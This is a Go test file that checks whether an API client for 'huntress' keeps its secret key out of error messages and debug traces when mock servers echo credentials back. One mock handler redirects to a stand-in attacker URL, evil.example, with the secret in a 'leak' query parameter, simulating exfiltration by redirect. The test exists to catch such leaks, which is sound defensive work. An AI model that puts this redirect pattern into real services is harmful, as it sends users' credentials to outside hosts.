package huntress_test

import (
	"bytes"
	"encoding/base64"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"halowiz/huntress"
)

const (
	testKey    = "hk_live_redaction_key"
	testSecret = "hs_live_Zq8wTopSecretValue41"
)

// echo answers with status and a body that repeats the credentials it got,
// the way a careless proxy or debug page might.
func echo(status int, contentType, format string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		_, secret, _ := r.BasicAuth()
		w.Header().Set("Content-Type", contentType)
		if w.Header().Get("Retry-After") == "" {
			w.Header().Set("Retry-After", "0")
		}
		if status == http.StatusFound {
			w.Header().Set("Location", "https://evil.example/?leak="+secret)
		}
		w.WriteHeader(status)
		fmt.Fprintf(w, format, r.Header.Get("Authorization"), secret)
	}
}

func TestSecretNeverReachesAnErrorOrTheTrace(t *testing.T) {
	token := base64.StdEncoding.EncodeToString([]byte(testKey + ":" + testSecret))
	cases := []struct {
		name    string
		handler http.HandlerFunc
		opts    func(*huntress.Options)
		want    error
		// wait is the caller's deadline: generous, so that a slow machine
		// never turns an answer into a timeout, and short only where the
		// timeout is the case.
		wait time.Duration
	}{
		{name: "401 JSON", handler: echo(401, "application/json", `{"error":"bad header %s secret %s"}`), want: huntress.ErrUnauthorized},
		{name: "403 HTML", handler: echo(403, "text/html", `<html><title>Denied %s / %s</title></html>`), want: huntress.ErrUnauthorized},
		{name: "400 text", handler: echo(400, "text/plain", "you sent %s and %s")},
		{name: "429 too long", handler: func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Retry-After", "3600")
			echo(429, "application/json", `{"message":"%s %s"}`)(w, r)
		}, want: huntress.ErrRateLimited},
		{name: "503 every time", handler: echo(503, "application/json", `{"errors":["%s","%s"]}`),
			wait: 3 * time.Second},
		{name: "200 HTML", handler: echo(200, "text/html", `<html><title>Login %s %s</title></html>`), want: huntress.ErrUnexpectedAnswer},
		{name: "200 not JSON", handler: echo(200, "application/json", `{"organizations": %s %s`), want: huntress.ErrUnexpectedAnswer},
		{name: "302 redirect", handler: echo(302, "text/html", `<a href="?%s%s">moved</a>`)},
		{name: "too large", handler: echo(200, "application/json", strings.Repeat(" ", 4096)+`{"x":"%s%s"}`),
			opts: func(o *huntress.Options) { o.MaxBody = 1024 }, want: huntress.ErrTooLarge},
		{name: "timeout", handler: func(w http.ResponseWriter, r *http.Request) { <-r.Context().Done() }, want: huntress.ErrTimeout,
			wait: 500 * time.Millisecond},
		{name: "unreachable", opts: func(o *huntress.Options) { o.BaseURL = closedAddress(t) }, want: huntress.ErrUnreachable},
		{name: "credentials in base URL", opts: func(o *huntress.Options) {
			o.BaseURL = "https://" + testKey + ":" + testSecret + "@api.huntress.io"
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			var trace bytes.Buffer
			opts := huntress.Options{Key: testKey, Secret: testSecret, Debug: &trace}
			if tc.handler != nil {
				ts := httptest.NewTLSServer(tc.handler)
				t.Cleanup(ts.Close)
				opts.BaseURL, opts.HTTPClient = ts.URL, ts.Client()
			}
			if tc.opts != nil {
				tc.opts(&opts)
			}
			wait := tc.wait
			if wait == 0 {
				wait = 20 * time.Second
			}
			_, err := huntress.New(opts).Organizations(deadline(t, wait))
			if err == nil {
				t.Fatal("no error")
			}
			if tc.want != nil && !errors.Is(err, tc.want) {
				t.Errorf("err = %v, want %v", err, tc.want)
			}
			for _, text := range append(errorTexts(err), trace.String()) {
				for _, secret := range []string{testSecret, token} {
					if strings.Contains(text, secret) {
						t.Errorf("%q leaks into %q", secret, text)
					}
				}
			}
		})
	}
}

// errorTexts is every way err can be printed: each error in its tree, with
// %v and with %+v and %#v.
func errorTexts(err error) []string {
	var texts []string
	var walk func(error)
	walk = func(e error) {
		if e == nil {
			return
		}
		texts = append(texts, e.Error(), fmt.Sprintf("%+v", e), fmt.Sprintf("%#v", e))
		switch u := e.(type) {
		case interface{ Unwrap() error }:
			walk(u.Unwrap())
		case interface{ Unwrap() []error }:
			for _, inner := range u.Unwrap() {
				walk(inner)
			}
		}
	}
	walk(err)
	return texts
}

func closedAddress(t *testing.T) string {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	return "https://" + l.Addr().String()
}
